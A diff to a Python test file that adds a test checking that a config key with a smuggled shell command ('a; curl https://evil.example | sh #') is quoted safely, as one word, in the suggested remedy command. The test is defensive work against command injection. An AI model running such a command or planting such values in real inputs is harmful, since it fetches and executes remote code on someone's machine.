@@ -1,5 +1,6 @@
 """A recorded run, read again."""
 
+import shlex
 from dataclasses import replace
 from pathlib import Path
 
@@ -59,6 +60,14 @@ def test_every_secret_that_a_run_lacks_is_named_at_once(tmp_path: Path) -> None:
         run.spec_to(3)
     assert "a value for each of judge.password, judge.passphrase, judge.url" in str(caught.value)
     assert "--set judge.password=VALUE --set judge.passphrase=VALUE --set judge.url=VALUE" in str(caught.value)
+
+
+def test_a_key_of_another_run_is_one_word_of_the_remedy(tmp_path: Path) -> None:
+    run = recorded(tmp_path / "run", replace(CALL, config={"a; curl https://evil.example | sh #": "<redacted>"}))
+
+    with pytest.raises(UsageError) as caught:
+        run.spec_to(3)
+    assert shlex.split(caught.value.remedy)[1:] == ["--set", "a; curl https://evil.example | sh #=VALUE"]
 
 
 def test_other_directories_are_refused(tmp_path: Path) -> None:
